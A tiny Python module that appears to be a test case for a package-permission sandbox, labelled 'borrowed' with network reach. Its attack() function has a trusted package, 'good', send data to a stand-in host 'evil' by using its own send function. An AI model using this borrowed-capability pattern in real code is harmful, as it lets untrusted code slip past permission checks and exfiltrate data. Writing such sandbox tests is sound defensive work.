"""A granted package is handed its own function."""
CATEGORY = "borrowed"
REACH = "net"

from . import payload


def attack():
    import good
    good.call(good.send, "evil", payload.PORT)
